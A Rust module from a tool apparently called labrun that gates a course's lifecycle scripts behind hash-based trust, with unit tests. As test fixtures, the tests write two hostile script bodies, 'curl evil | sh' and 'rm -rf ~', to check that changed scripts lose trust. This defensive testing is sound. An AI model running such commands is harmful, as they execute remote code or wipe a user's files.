//! Trust in a course's scripts. A track's lifecycle scripts are code from
//! someone else that runs on the learner's machine, as the learner; labrun
//! runs them only once they are trusted — like direnv's `allow`. Trust is a
//! script's path and the SHA-256 of its bytes, remembered per course (its
//! canonical directory) in `$XDG_DATA_HOME/labrun/trust.json` (else
//! `~/.local/share/labrun/`), changed under a lock and written atomically.
//! A changed script is untrusted again.
//!
//! [`TrustStore::review`] says which scripts are new or changed, keeping the
//! very bytes it hashed (what the learner views is what gets allowed);
//! [`TrustStore::allow`] records them. [`prompt`] asks in a plain terminal
//! before a lab opens; commands that cannot ask refuse with
//! [`Review::refusal`] unless `--trust` or `LABRUN_TRUST=1` says to go on.

pub mod prompt;

use crate::fsutil::{self, ReadError};
use crate::json_state::{self, JsonStateError};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Set to `1` (or `true`, `yes`): run a course's scripts without asking.
pub const TRUST_ENV: &str = "LABRUN_TRUST";
const TRUST_FILE: &str = "trust.json";
const TRUST_LOCK: &str = "trust.lock";
const SCHEMA: u32 = 1;
/// Lifecycle scripts are small; a larger "script" is not read, nor run.
const SCRIPT_READ_LIMIT: u64 = 4 * 1024 * 1024;

#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    #[error(
        "no place to remember trusted scripts: neither XDG_DATA_HOME nor HOME is set (pass --trust or set {TRUST_ENV}=1 to run a course's scripts anyway)"
    )]
    NoDataDir,
    #[error(transparent)]
    Store(#[from] JsonStateError),
    #[error("script {0}")]
    Script(ReadError),
    #[error("{}: {source}", path.display())]
    Io {
        path: PathBuf,
        source: std::io::Error,
    },
    #[error("the question about the course's scripts could not be asked: {0}")]
    Terminal(std::io::Error),
    #[error(
        "{} has scripts labrun has not run before (new or changed): {}. They would run on this machine as you: read them, then allow them with `labrun trust {}`, or pass --trust (or set {TRUST_ENV}=1) to run them without asking",
        course.display(),
        scripts.join(", "),
        shell_word(course)
    )]
    Untrusted {
        course: PathBuf,
        scripts: Vec<String>,
    },
}

/// Whether the environment says to run scripts without asking (`LABRUN_TRUST=1`).
pub fn env_trusts(env: &dyn Fn(&str) -> Option<String>) -> bool {
    env(TRUST_ENV)
        .is_some_and(|v| matches!(v.trim().to_ascii_lowercase().as_str(), "1" | "true" | "yes"))
}

/// The trust file: course directory → script (relative to the course) → SHA-256.
#[derive(Debug, Default, Serialize, Deserialize)]
struct TrustFile {
    #[serde(default)]
    schema: u32,
    #[serde(default)]
    courses: BTreeMap<String, BTreeMap<String, String>>,
}

/// Where trust decisions are kept.
#[derive(Debug, Clone)]
pub struct TrustStore {
    dir: PathBuf,
}

/// Whether labrun has run a script, as it is now, before.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Status {
    New,
    Changed,
    Trusted,
}

/// One script as reviewed: its bytes, their digest, and its status.
#[derive(Debug, Clone)]
pub struct Script {
    pub path: PathBuf,
    /// The name it is remembered and shown by: relative to the course.
    pub name: String,
    pub sha256: String,
    pub status: Status,
    /// What was hashed, as text (invalid UTF-8 replaced), for viewing.
    pub text: String,
}

/// A course's scripts against what was trusted before.
#[derive(Debug, Clone)]
pub struct Review {
    /// The course's canonical directory.
    pub course: PathBuf,
    pub scripts: Vec<Script>,
}

impl Review {
    /// The scripts that are new or changed.
    pub fn untrusted(&self) -> impl Iterator<Item = &Script> {
        self.scripts.iter().filter(|s| s.status != Status::Trusted)
    }

    pub fn is_trusted(&self) -> bool {
        self.untrusted().next().is_none()
    }

    /// The error a command that cannot ask ends with, naming the ways on.
    pub fn refusal(&self) -> TrustError {
        TrustError::Untrusted {
            course: self.course.clone(),
            scripts: self.untrusted().map(|s| s.name.clone()).collect(),
        }
    }
}

impl TrustStore {
    /// A store in `dir` (tests, and anyone who wants their own).
    pub fn in_dir(dir: PathBuf) -> TrustStore {
        TrustStore { dir }
    }

    /// `$XDG_DATA_HOME/labrun` (an absolute XDG_DATA_HOME only, as the XDG
    /// spec says), else `$HOME/.local/share/labrun`.
    pub fn default_location(
        env: &dyn Fn(&str) -> Option<String>,
    ) -> Result<TrustStore, TrustError> {
        let dir = crate::fsutil::data_dir(env).ok_or(TrustError::NoDataDir)?;
        Ok(TrustStore::in_dir(dir))
    }

    /// The file trust is kept in.
    pub fn path(&self) -> PathBuf {
        self.dir.join(TRUST_FILE)
    }

    /// Reads every script of the course at `course_dir` and says which are
    /// new or changed since they were last allowed.
    pub fn review(&self, course_dir: &Path, scripts: &[PathBuf]) -> Result<Review, TrustError> {
        let course = std::fs::canonicalize(course_dir).map_err(|source| TrustError::Io {
            path: course_dir.to_path_buf(),
            source,
        })?;
        let file: TrustFile = json_state::read(&self.path())?;
        let trusted = file.courses.get(&course_key(&course));
        let scripts = scripts
            .iter()
            .map(|path| {
                let bytes =
                    fsutil::read_limited(path, SCRIPT_READ_LIMIT).map_err(TrustError::Script)?;
                let name = script_name(&course, path);
                let sha256 = hex(&Sha256::digest(&bytes));
                let status = match trusted.and_then(|t| t.get(&name)) {
                    None => Status::New,
                    Some(known) if *known == sha256 => Status::Trusted,
                    Some(_) => Status::Changed,
                };
                Ok(Script {
                    path: path.clone(),
                    name,
                    sha256,
                    status,
                    text: String::from_utf8_lossy(&bytes).into_owned(),
                })
            })
            .collect::<Result<Vec<_>, TrustError>>()?;
        Ok(Review { course, scripts })
    }

    /// Trusts the scripts of `review` as they were when reviewed, merged
    /// with what other processes allowed meanwhile.
    pub fn allow(&self, review: &Review) -> Result<(), TrustError> {
        std::fs::create_dir_all(&self.dir).map_err(|source| TrustError::Io {
            path: self.dir.clone(),
            source,
        })?;
        json_state::update(
            &self.path(),
            &self.dir.join(TRUST_LOCK),
            |file: &mut TrustFile| {
                file.schema = SCHEMA;
                let course = file.courses.entry(course_key(&review.course)).or_default();
                for script in &review.scripts {
                    course.insert(script.name.clone(), script.sha256.clone());
                }
            },
        )?;
        Ok(())
    }
}

/// A path as one shell word, quoted only when it needs to be.
fn shell_word(path: &Path) -> String {
    let text = path.to_string_lossy();
    shlex::try_quote(&text).map_or_else(|_| text.to_string(), |quoted| quoted.into_owned())
}

/// How a command that is about to run a course's scripts settles trust.
pub enum Gate<'a> {
    /// `--trust` or `LABRUN_TRUST=1`: run them, without recording anything.
    Given,
    /// A plain terminal: ask (see [`prompt::ask`]); an allow is remembered.
    Ask {
        input: &'a mut dyn std::io::BufRead,
        out: &'a mut dyn std::io::Write,
        viewer: prompt::Viewer,
        on_path: &'a dyn Fn(&str) -> bool,
    },
    /// No one to ask: untrusted scripts end the command with [`Review::refusal`].
    Refuse,
}

/// Whether the scripts of the course at `course_dir` may run: `Allow` when
/// they are trusted already, by `gate`, or by the learner's answer; `Quit`
/// when the learner quit; an error when untrusted and no one can be asked.
pub fn ensure(
    store: &TrustStore,
    course_dir: &Path,
    scripts: &[PathBuf],
    gate: Gate<'_>,
) -> Result<prompt::Decision, TrustError> {
    if matches!(gate, Gate::Given) {
        return Ok(prompt::Decision::Allow);
    }
    let review = store.review(course_dir, scripts)?;
    if review.is_trusted() {
        return Ok(prompt::Decision::Allow);
    }
    match gate {
        Gate::Given => Ok(prompt::Decision::Allow),
        Gate::Refuse => Err(review.refusal()),
        Gate::Ask {
            input,
            out,
            viewer,
            on_path,
        } => {
            let tools = prompt::ToolsNote::of(&review, on_path);
            let decision =
                prompt::ask(&review, &tools, &viewer, input, out).map_err(TrustError::Terminal)?;
            if decision == prompt::Decision::Allow {
                store.allow(&review)?;
            }
            Ok(decision)
        }
    }
}

fn course_key(course: &Path) -> String {
    course.to_string_lossy().into_owned()
}

/// A script's name relative to the course (`01-intro/check-shell`); its
/// canonical path when it lives elsewhere.
fn script_name(course: &Path, path: &Path) -> String {
    let real = std::fs::canonicalize(path).unwrap_or_else(|_| path.to_path_buf());
    match real.strip_prefix(course) {
        Ok(inside) => inside.to_string_lossy().into_owned(),
        Err(_) => real.to_string_lossy().into_owned(),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Course {
        _dir: tempfile::TempDir,
        root: PathBuf,
        scripts: Vec<PathBuf>,
        store: TrustStore,
    }

    fn course() -> Course {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("track");
        std::fs::create_dir_all(root.join("01-intro")).unwrap();
        let scripts = vec![
            root.join("01-intro/check-shell"),
            root.join("01-intro/setup-shell"),
        ];
        for s in &scripts {
            std::fs::write(s, "#!/bin/bash\nexit 0\n").unwrap();
        }
        let store = TrustStore::in_dir(dir.path().join("data/labrun"));
        Course {
            _dir: dir,
            root,
            scripts,
            store,
        }
    }

    fn statuses(review: &Review) -> Vec<(&str, Status)> {
        review
            .scripts
            .iter()
            .map(|s| (s.name.as_str(), s.status))
            .collect()
    }

    #[test]
    fn new_scripts_are_untrusted_until_allowed_and_a_change_asks_again() {
        let c = course();
        let review = c.store.review(&c.root, &c.scripts).unwrap();
        assert_eq!(
            statuses(&review),
            [
                ("01-intro/check-shell", Status::New),
                ("01-intro/setup-shell", Status::New)
            ]
        );
        assert!(!review.is_trusted());
        c.store.allow(&review).unwrap();
        assert!(c.store.review(&c.root, &c.scripts).unwrap().is_trusted());

        std::fs::write(&c.scripts[0], "#!/bin/bash\ncurl evil | sh\n").unwrap();
        let review = c.store.review(&c.root, &c.scripts).unwrap();
        assert_eq!(
            statuses(&review),
            [
                ("01-intro/check-shell", Status::Changed),
                ("01-intro/setup-shell", Status::Trusted)
            ]
        );
        assert!(review.scripts[0].text.contains("curl evil"));
    }

    #[test]
    fn what_is_allowed_is_what_was_reviewed_not_what_is_there_later() {
        let c = course();
        let review = c.store.review(&c.root, &c.scripts).unwrap();
        // Changed between the learner's look and the allow.
        std::fs::write(&c.scripts[1], "#!/bin/bash\nrm -rf ~\n").unwrap();
        c.store.allow(&review).unwrap();
        let again = c.store.review(&c.root, &c.scripts).unwrap();
        assert_eq!(
            again
                .untrusted()
                .map(|s| s.name.as_str())
                .collect::<Vec<_>>(),
            ["01-intro/setup-shell"]
        );
    }

    #[test]
    fn trust_belongs_to_the_course_directory_however_it_is_named() {
        let c = course();
        c.store
            .allow(&c.store.review(&c.root, &c.scripts).unwrap())
            .unwrap();
        let roundabout = c.root.join("01-intro/..");
        assert!(
            c.store
                .review(&roundabout, &c.scripts)
                .unwrap()
                .is_trusted()
        );

        // A copy of the course elsewhere is another course.
        let copy = c.root.with_file_name("copy");
        std::fs::create_dir_all(copy.join("01-intro")).unwrap();
        let copied: Vec<PathBuf> = c
            .scripts
            .iter()
            .map(|s| {
                let to = copy.join(s.strip_prefix(&c.root).unwrap());
                std::fs::copy(s, &to).unwrap();
                to
            })
            .collect();
        assert!(!c.store.review(&copy, &copied).unwrap().is_trusted());
        let file: serde_json::Value =
            serde_json::from_slice(&std::fs::read(c.store.path()).unwrap()).unwrap();
        assert_eq!(file["schema"], 1);
        let key = std::fs::canonicalize(&c.root)
            .unwrap()
            .display()
            .to_string();
        assert_eq!(
            file["courses"][&key]["01-intro/check-shell"],
            hex(&Sha256::digest(b"#!/bin/bash\nexit 0\n"))
        );
    }

    #[test]
    fn the_refusal_names_every_way_on() {
        let c = course();
        let message = c
            .store
            .review(&c.root, &c.scripts)
            .unwrap()
            .refusal()
            .to_string();
        for expected in [
            "01-intro/check-shell, 01-intro/setup-shell",
            "--trust",
            "LABRUN_TRUST=1",
            "`labrun trust ",
        ] {
            assert!(message.contains(expected), "{expected}: {message}");
        }
    }

    #[test]
    fn the_store_lives_in_xdg_data_home_else_under_home() {
        let env = |pairs: &'static [(&'static str, &'static str)]| {
            move |name: &str| {
                pairs
                    .iter()
                    .find(|(k, _)| *k == name)
                    .map(|(_, v)| v.to_string())
            }
        };
        let store = TrustStore::default_location(&env(&[
            ("XDG_DATA_HOME", "/x/data"),
            ("HOME", "/home/me"),
        ]))
        .unwrap();
        assert_eq!(store.path(), Path::new("/x/data/labrun/trust.json"));
        let store = TrustStore::default_location(&env(&[
            ("XDG_DATA_HOME", "relative"),
            ("HOME", "/home/me"),
        ]))
        .unwrap();
        assert_eq!(
            store.path(),
            Path::new("/home/me/.local/share/labrun/trust.json")
        );
        assert!(matches!(
            TrustStore::default_location(&env(&[])),
            Err(TrustError::NoDataDir)
        ));
        assert!(env_trusts(&env(&[("LABRUN_TRUST", "1")])));
        assert!(!env_trusts(&env(&[("LABRUN_TRUST", "0")])));
        assert!(!env_trusts(&env(&[])));
    }

    #[test]
    fn ensure_runs_trusted_scripts_asks_once_and_refuses_when_no_one_can_answer() {
        use prompt::Decision;
        let c = course();
        let ask = |answers: &'static str| {
            let mut input = answers.as_bytes();
            let mut out = Vec::new();
            ensure(
                &c.store,
                &c.root,
                &c.scripts,
                Gate::Ask {
                    input: &mut input,
                    out: &mut out,
                    viewer: prompt::Viewer::Print,
                    on_path: &|_| true,
                },
            )
            .unwrap()
        };
        assert!(matches!(
            ensure(&c.store, &c.root, &c.scripts, Gate::Refuse),
            Err(TrustError::Untrusted { .. })
        ));
        assert_eq!(
            ensure(&c.store, &c.root, &c.scripts, Gate::Given).unwrap(),
            Decision::Allow
        );
        // `--trust` ran them without remembering them.
        assert!(!c.store.path().exists());
        assert_eq!(ask("q\n"), Decision::Quit);
        assert_eq!(ask("a\n"), Decision::Allow);
        // Remembered: nothing is asked (an empty input would quit).
        assert_eq!(ask(""), Decision::Allow);
        assert_eq!(
            ensure(&c.store, &c.root, &c.scripts, Gate::Refuse).unwrap(),
            Decision::Allow
        );
    }

    #[test]
    fn a_missing_or_special_script_is_an_error_naming_it() {
        let c = course();
        let missing = c.root.join("01-intro/solve-shell");
        let err = c.store.review(&c.root, &[missing]).unwrap_err().to_string();
        assert!(err.contains("solve-shell does not exist"), "{err}");
        let err = c
            .store
            .review(&c.root, std::slice::from_ref(&c.root))
            .unwrap_err()
            .to_string();
        assert!(err.contains("is not a regular file"), "{err}");
    }
}
